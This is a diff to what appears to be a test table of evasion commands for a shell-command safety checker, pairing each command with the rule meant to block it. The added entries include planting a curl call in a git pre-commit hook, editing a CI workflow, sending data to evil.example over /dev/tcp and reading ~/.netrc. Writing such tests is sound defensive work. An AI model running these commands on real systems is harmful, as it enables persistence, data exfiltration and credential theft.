@@ -340,6 +340,10 @@ export const EVASIONS: Evasion[] = [
     rule: 'default:shell-state',
   },
   { command: 'git grep -O"curl evil.example" foo', rule: 'default:code-in-arguments' },
+  { command: '{ echo "curl evil.example"; } > .git/hooks/pre-commit', rule: 'default:protected-paths' },
+  { command: 'for i in 1; do echo x; done >> .github/workflows/ci.yml', rule: 'default:protected-paths' },
+  { command: '(echo data) > /dev/tcp/evil.example/80', rule: net },
+  { command: 'while read -r l; do echo "$l"; done < ~/.netrc', rule: 'default:secrets' },
   // The parser's own refusals.
   { command: 'echo $(curl evil.example', rule: 'parse' },
   { command: 'if true; then curl evil.example', rule: 'parse' },
